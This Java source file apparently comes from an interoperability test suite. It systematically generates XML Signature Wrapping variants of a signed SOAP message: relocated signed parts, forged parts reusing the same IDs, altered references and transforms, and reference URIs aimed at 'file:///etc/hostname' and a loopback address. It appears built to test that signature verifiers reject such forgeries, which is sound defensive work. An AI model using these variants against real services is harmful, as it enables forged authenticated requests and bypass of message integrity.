package org.openghc.interop;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.BiConsumer;
import java.util.function.Consumer;
import javax.xml.crypto.dsig.XMLSignature;
import org.apache.wss4j.dom.WSConstants;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.w3c.dom.Text;

/**
 * Signature wrapping, systematically: of one signed message all the ways in which the signed part can be kept somewhere while another part
 * stands where it is read, and the ways in which a signature can be made to point, or be read, elsewhere. Each variant is made from a fresh
 * copy of the message; what is signed stays as it was wherever it goes, since exclusive canonicalisation does not look at where it stands.
 *
 * @param message the signed message
 * @param part    namespace and name of the signed part that is attacked
 * @param forged  the part that the attacker wants to be read instead
 */
record Wrappings(byte[] message, String[] part, String forged) {

    private static final String WSU = WSConstants.WSU_NS;
    private static final String WSSE = WSConstants.WSSE_NS;
    private static final String XML = "http://www.w3.org/XML/1998/namespace";
    private static final String DS = XMLSignature.XMLNS;

    /** Every variant by its name; no two have the same bytes, and none the message's own. */
    Map<String, byte[]> variants() {
        Map<String, byte[]> variants = new LinkedHashMap<>();
        places().forEach((place, keep) -> ids().forEach((id, mark) -> {
            add(variants, "original " + place + ", forged in its place, " + id, at -> at.replace(keep, mark));
            add(variants, "original " + place + ", forged last, " + id, at -> at.last(keep, mark));
        }));
        ids().forEach((id, mark) -> {
            add(variants, "forged before the original, " + id, at -> at.beside(true, mark));
            add(variants, "forged after the original, " + id, at -> at.beside(false, mark));
        });
        forms().forEach((form, change) -> {
            add(variants, "original in a wrapper, forged " + form, at -> change.accept(at.replace(places().get("in a wrapper"), ids().get("same wsu:Id")), at.forged));
            add(variants, "forged " + form + " beside the original", at -> change.accept(at.beside(true, ids().get("no id")), at.forged));
        });
        signatures().forEach((way, change) -> {
            add(variants, way, change);
            add(variants, way + ", with the original in a wrapper", at -> {
                at.replace(places().get("in a wrapper"), ids().get("no id"));
                change.accept(at);
            });
        });
        splits().forEach((way, change) -> add(variants, way, change));
        return variants;
    }

    private void add(Map<String, byte[]> variants, String name, Consumer<Message> change) {
        Message copy = new Message(SignedSoap.parse(message), part, forged);
        change.accept(copy);
        byte[] bytes = SignedSoap.bytes(copy.document);
        if (variants.values().stream().noneMatch(known -> java.util.Arrays.equals(known, bytes))) {
            variants.put(name, bytes);
        }
    }

    /** Where the original goes. */
    private static Map<String, Consumer<Message>> places() {
        Map<String, Consumer<Message>> places = new LinkedHashMap<>();
        places.put("first in the header", at -> at.header().insertBefore(at.original, at.header().getFirstChild()));
        places.put("last in the header", at -> at.header().appendChild(at.original));
        places.put("in a wrapper", at -> at.wrapper(at.header()).appendChild(at.original));
        places.put("in a wrapper to be understood", at -> {
            Element wrapper = at.wrapper(at.header());
            wrapper.setAttributeNS(at.soap, "s:mustUnderstand", "0");
            wrapper.appendChild(at.original);
        });
        places.put("first in Security", at -> at.security().insertBefore(at.original, at.security().getFirstChild()));
        places.put("last in Security", at -> at.security().appendChild(at.original));
        places.put("in the signature's Object", at -> at.child(at.signature(), DS, "ds:Object").appendChild(at.original));
        places.put("in KeyInfo", at -> at.in(at.signature(), DS, "KeyInfo").appendChild(at.original));
        places.put("in the token reference", at -> at.in(at.signature(), WSSE, "SecurityTokenReference").appendChild(at.original));
        places.put("between header and body", at -> at.envelope().insertBefore(at.wrapper(at.envelope()), at.body()).appendChild(at.original));
        places.put("after the body", at -> at.envelope().appendChild(at.original));
        places.put("before the header", at -> at.envelope().insertBefore(at.original, at.header()));
        places.put("inside the forged one", at -> at.forged.appendChild(at.original));
        places.put("deep in wrappers", at -> {
            Element deepest = at.header();
            for (int depth = 0; depth < 20; depth++) {
                deepest = at.wrapper(deepest);
            }
            deepest.appendChild(at.original);
        });
        places.put("in a second Security", at -> at.child(at.header(), WSSE, "wsse:Security").appendChild(at.original));
        return places;
    }

    /** What the forged part is called. */
    private static Map<String, BiConsumer<Element, String>> ids() {
        Map<String, BiConsumer<Element, String>> ids = new LinkedHashMap<>();
        ids.put("no id", (forged, id) -> {});
        ids.put("same wsu:Id", (forged, id) -> forged.setAttributeNS(WSU, "wsu:Id", id));
        ids.put("same Id", (forged, id) -> forged.setAttribute("Id", id));
        ids.put("same xml:id", (forged, id) -> forged.setAttributeNS(XML, "xml:id", id));
        ids.put("same Id of another namespace", (forged, id) -> forged.setAttributeNS("urn:other", "o:Id", id));
        ids.put("same ID and id", (forged, id) -> {
            forged.setAttribute("ID", id);
            forged.setAttribute("id", id);
        });
        ids.put("another wsu:Id", (forged, id) -> forged.setAttributeNS(WSU, "wsu:Id", "other"));
        return ids;
    }

    /** The forged part in another form. */
    private static Map<String, BiConsumer<Message, Element>> forms() {
        Map<String, BiConsumer<Message, Element>> forms = new LinkedHashMap<>();
        for (String namespace : List.of("", "http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope", "urn:other",
                "http://schemas.xmlsoap.org/ws/2004/08/addressing")) {
            forms.put("of the namespace '" + namespace + "'", (at, forged) -> at.document.renameNode(forged, namespace.isEmpty() ? null : namespace, forged.getLocalName()));
        }
        forms.put("in small letters", (at, forged) -> at.document.renameNode(forged, forged.getNamespaceURI(), "x:" + forged.getLocalName().toLowerCase(java.util.Locale.ROOT)));
        forms.put("in capitals", (at, forged) -> at.document.renameNode(forged, forged.getNamespaceURI(), "x:" + forged.getLocalName().toUpperCase(java.util.Locale.ROOT)));
        return forms;
    }

    /** The signature and its header made to say something else, to be read by somebody else, or to stand somewhere else. */
    private static Map<String, Consumer<Message>> signatures() {
        Map<String, Consumer<Message>> ways = new LinkedHashMap<>();
        for (String uri : List.of("", "#xpointer(/)", "#other", "other.xml", "http://127.0.0.1:9/", "cid:x", "file:///etc/hostname")) {
            ways.put("reference to '" + uri + "'", at -> at.reference().setAttribute("URI", uri));
        }
        ways.put("reference by xpointer to the id", at -> at.reference().setAttribute("URI", "#xpointer(id('" + at.id + "'))"));
        ways.put("reference without URI", at -> at.reference().removeAttribute("URI"));
        ways.put("reference gone", at -> at.reference().getParentNode().removeChild(at.reference()));
        ways.put("reference twice", at -> at.reference().getParentNode().appendChild(at.reference().cloneNode(true)));
        ways.put("reference more", at -> ((Element) at.reference().getParentNode().appendChild(at.reference().cloneNode(true))).setAttribute("URI", "#other"));
        for (String transform : List.of(DS + "enveloped-signature", "http://www.w3.org/TR/1999/REC-xpath-19991116", "http://www.w3.org/TR/1999/REC-xslt-19991116",
                "http://www.w3.org/2002/06/xmldsig-filter2", DS + "base64",
                "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform")) {
            ways.put("transform " + transform, at -> {
                Element made = at.child(at.in(at.reference(), DS, "Transforms"), DS, "ds:Transform");
                made.setAttribute("Algorithm", transform);
                at.child(made, DS, "ds:XPath").setTextContent("not(ancestor-or-self::*[local-name()='Body'])");
            });
        }
        for (String actor : List.of("http://schemas.xmlsoap.org/soap/actor/next", "http://www.w3.org/2003/05/soap-envelope/role/none", "urn:somebody")) {
            ways.put("security for " + actor + ", forged beside", at -> {
                at.security().setAttributeNS(at.soap, at.soap.endsWith("/envelope/") ? "s:actor" : "s:role", actor);
                at.beside(true, ids().get("no id"));
            });
        }
        ways.put("security not to be understood, forged beside", at -> {
            at.security().setAttributeNS(at.soap, "s:mustUnderstand", "0");
            at.beside(true, ids().get("no id"));
        });
        ways.put("a second Security, empty, first", at -> at.header().insertBefore(at.child(at.header(), WSSE, "wsse:Security"), at.header().getFirstChild()));
        ways.put("a second Security with a copy of all", at -> at.header().insertBefore(at.security().cloneNode(true), at.header().getFirstChild()));
        ways.put("a second Security with a copy of all and the forged", at -> {
            at.header().appendChild(at.security().cloneNode(true));
            at.beside(true, ids().get("same wsu:Id"));
        });
        ways.put("the signature in a wrapper", at -> at.wrapper(at.security()).appendChild(at.signature()));
        ways.put("the signature in a signature's Object", at -> {
            Element inner = at.signature();
            Element outer = (Element) inner.cloneNode(true);
            inner.getParentNode().replaceChild(outer, inner);
            at.child(outer, DS, "ds:Object").appendChild(inner);
        });
        ways.put("the signature in the body", at -> at.body().appendChild(at.signature()));
        ways.put("the signature twice", at -> at.security().appendChild(at.signature().cloneNode(true)));
        ways.put("token reference to another place", at -> at.tokenReference().setAttribute("URI", "#other"));
        ways.put("token reference to the part", at -> at.tokenReference().setAttribute("URI", "#" + at.id));
        ways.put("token twice under one id", at -> at.security().insertBefore(at.in(at.security(), WSSE, "BinarySecurityToken").cloneNode(true), at.security().getFirstChild()));
        ways.put("no KeyInfo", at -> at.signature().removeChild(at.in(at.signature(), DS, "KeyInfo")));
        ways.put("KeyInfo with a name", at -> at.child(at.in(at.signature(), DS, "KeyInfo"), DS, "ds:KeyName").setTextContent("interop"));
        return ways;
    }

    /** A whole signed message inside another, and text that is split where canonicalisation does not look. */
    private static Map<String, Consumer<Message>> splits() {
        Map<String, Consumer<Message>> ways = new LinkedHashMap<>();
        for (String where : List.of("header", "security", "wrapper")) {
            ways.put("the whole signed message in the " + where + " of another", at -> {
                Node whole = at.envelope().cloneNode(true);
                Element place = "header".equals(where) ? at.header() : "security".equals(where) ? at.security() : at.wrapper(at.header());
                at.beside(true, ids().get("no id"));
                at.original.getParentNode().removeChild(at.original);
                place.appendChild(whole);
            });
        }
        for (int position : List.of(0, 1, 8, 20)) {
            ways.put("a comment in the text at " + position, at -> at.split(position, at.document.createComment("x")));
            ways.put("an instruction in the text at " + position, at -> at.split(position, at.document.createProcessingInstruction("x", "y")));
            ways.put("a comment in the forged text at " + position, at -> {
                at.replace(places().get("in a wrapper"), ids().get("same wsu:Id"));
                at.split(position, at.document.createComment("x"));
            });
        }
        ways.put("a comment instead of the rest of the text", at -> {
            Text rest = at.text(at.original).splitText(4);
            rest.getParentNode().replaceChild(at.document.createComment(rest.getData()), rest);
        });
        return ways;
    }

    /** One copy of the message, taken apart. */
    private static final class Message {

        private final Document document;
        private final Element original;
        private final Element forged;
        private final String soap;
        private final String id;

        Message(Document document, String[] part, String forged) {
            this.document = document;
            this.soap = document.getDocumentElement().getNamespaceURI();
            this.original = SignedSoap.element(document, part[0], part[1]);
            this.forged = (Element) document.importNode(SignedSoap.parse(forged.getBytes(java.nio.charset.StandardCharsets.UTF_8)).getDocumentElement(), true);
            this.id = original.getAttributeNS(WSU, "Id");
        }

        /** The forged part where the original was, the original elsewhere. */
        Message replace(Consumer<Message> keep, BiConsumer<Element, String> mark) {
            mark.accept(forged, id);
            original.getParentNode().replaceChild(forged, original);
            keep.accept(this);
            return this;
        }

        /** The forged part at the end of where the original was, the original elsewhere. */
        Message last(Consumer<Message> keep, BiConsumer<Element, String> mark) {
            mark.accept(forged, id);
            Node parent = original.getParentNode();
            parent.removeChild(original);
            keep.accept(this);
            parent.appendChild(forged);
            return this;
        }

        Message beside(boolean before, BiConsumer<Element, String> mark) {
            mark.accept(forged, id);
            original.getParentNode().insertBefore(forged, before ? original : original.getNextSibling());
            return this;
        }

        void split(int position, Node between) {
            Text text = text(original);
            text.getParentNode().insertBefore(between, text.splitText(Math.min(position, text.getLength())));
        }

        /** The longest text in an element. */
        Text text(Element within) {
            List<Text> texts = new ArrayList<>();
            collect(within, texts);
            return texts.stream().max(java.util.Comparator.comparingInt(Text::getLength)).orElseThrow();
        }

        private static void collect(Node node, List<Text> texts) {
            for (Node child = node.getFirstChild(); child != null; child = child.getNextSibling()) {
                if (child instanceof Text text) {
                    texts.add(text);
                }
                collect(child, texts);
            }
        }

        Element envelope() {
            return document.getDocumentElement();
        }

        Element header() {
            return in(envelope(), soap, "Header");
        }

        Element body() {
            return in(envelope(), soap, "Body");
        }

        Element security() {
            return in(header(), WSSE, "Security");
        }

        Element signature() {
            return in(security(), DS, "Signature");
        }

        Element reference() {
            var references = signature().getElementsByTagNameNS(DS, "Reference");
            for (int i = 0; i < references.getLength(); i++) {
                Element reference = (Element) references.item(i);
                if (reference.getAttribute("URI").equals("#" + id)) {
                    return reference;
                }
            }
            throw new IllegalStateException("the part is not signed");
        }

        Element tokenReference() {
            return in(in(signature(), WSSE, "SecurityTokenReference"), WSSE, "Reference");
        }

        Element in(Element parent, String namespace, String name) {
            return (Element) parent.getElementsByTagNameNS(namespace, name).item(0);
        }

        Element child(Element parent, String namespace, String name) {
            return (Element) parent.appendChild(document.createElementNS(namespace, name));
        }

        Element wrapper(Element parent) {
            return child(parent, "urn:wrapper", "w:wrapper");
        }
    }
}
